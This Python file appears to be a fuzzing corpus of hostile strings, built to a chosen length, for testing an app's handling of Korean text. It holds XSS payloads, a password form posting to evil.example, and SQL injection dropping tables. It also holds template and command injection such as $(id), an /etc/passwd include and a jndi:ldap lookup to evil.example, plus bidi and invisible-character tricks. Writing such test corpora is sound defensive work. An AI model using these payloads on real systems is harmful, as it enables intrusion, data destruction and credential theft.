"""Text that means harm: what breaks parsers, renderers, terminals, databases and patience. Each is made to a length."""

from collections.abc import Callable


def _filled(unit: str) -> Callable[[int], str]:
    return lambda chars: (unit * (chars // len(unit) + 1))[:chars]


def _between(before: str, unit: str, after: str) -> Callable[[int], str]:
    return lambda chars: before + _filled(unit)(max(0, chars - len(before) - len(after))) + after


HTML = (
    "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)><iframe src=javascript:alert(1)></iframe>"
    '<a href="javascript:alert(1)">누르세요</a><style>*{display:none}</style><form action=https://evil.example><input type=password>'
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
)
MARKDOWN = (
    "[누르세요](javascript:alert(1)) ![](https://evil.example/x.png) <https://evil.example> [a](data:text/html,<script>alert(1)</script>)\n"
    "[b](  vbscript:x 'y\" onmouseover=\"alert(1)') `<script>` $\\href{javascript:alert(1)}{x}$ $$\\unicode{x3c}script$$\n"
    '```"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```\n'
)
SQL = "'; DROP TABLE votes; -- \" OR 1=1 /* */ \\'; DELETE FROM battles WHERE ''='"
TEMPLATES = "${alert(1)} {{7*7}} {% include '/etc/passwd' %} #{7*7} <%= 7*7 %> %s %(x)s {0} {x!r} $(id) `id` ${jndi:ldap://evil.example/a}"

CORPUS: dict[str, Callable[[int], str]] = {
    "control characters": _filled("".join(map(chr, range(0x20))) + "\x7f\x80\x9f가"),
    "bidi overrides": _filled("\u202e가나다\u2066abc\u2069\u202c\u200f\u061c"),
    "invisible characters": _filled("가\u200b\u200d\ufeff\u00ad\u2060\U000e0041"),
    "combining flood": _between("가", "\u0301\u0489\u20dd", ""),
    "jamo flood": _filled("\u1100\u1100\u1161\u1161\u11a8\u11a8"),
    "lone jamo flood": _filled("ㅋㅋㅋㅎㅏㅏㅏ"),
    "half-made syllables": _filled("\u1100\u1161\u11a8\u1112\u1161"),
    "emoji joined without end": _filled("👩‍👩‍👧‍👦\u200d"),
    "html": _filled(HTML),
    "markdown tricks": _filled(MARKDOWN),
    "quotes nested": _filled(">"),
    "brackets nested": _filled("["),
    "links nested": _filled("[a]("),
    "emphasis nested": _filled("*a _b **c "),
    "stars": _filled("*"),
    "backticks": _filled("`a``b```"),
    "backtick run": _filled("`"),
    "lists nested": lambda chars: "\n".join("  " * n + "- a" for n in range(200))[:chars],
    "table": lambda chars: (("|a" * 200 + "|\n") + ("|-" * 200 + "|\n") + ("|b" * 200 + "|\n") * 99)[:chars],
    "dollars": _filled("$a$$b$ "),
    "braces in mathematics": _between("$$", "{", "$$"),
    "fractions in mathematics": _between("$$", r"\frac{", "$$"),
    "mathematics": _filled(r"$\left(\frac{a}{b}\right)^{\sqrt{c}}$ "),
    "backslashes": _filled("\\"),
    "entities": _filled("&#x3c;script&#x3e;&lt;img&gt;&amp;&#0;&#x110000;"),
    "open code": _between("```python\n", "'''\"\"\"((([[[{{{\\\n", ""),
    "lines": _filled("\n가"),
    "spaces": _between("가", " ", "가"),
    "one long word": _filled("가"),
    "digits": _filled("0101234567890-"),
    "almost registration numbers": _filled("901231 - "),
    "almost cards": _filled("4111 1111 "),
    "almost addresses": _filled("a.b@c-d."),
    "almost spelled numbers": _filled("공일공 "),
    "names and claims": _filled("저는 가람 "),
    "who are you": _filled("너는 누구 "),
    "sql": _filled(SQL),
    "templates": _filled(TEMPLATES),
    "lone surrogates": _filled("가\ud800\udfff나"),
    "last code points": _filled("\uffff\U0010ffff\ufdd0"),
}
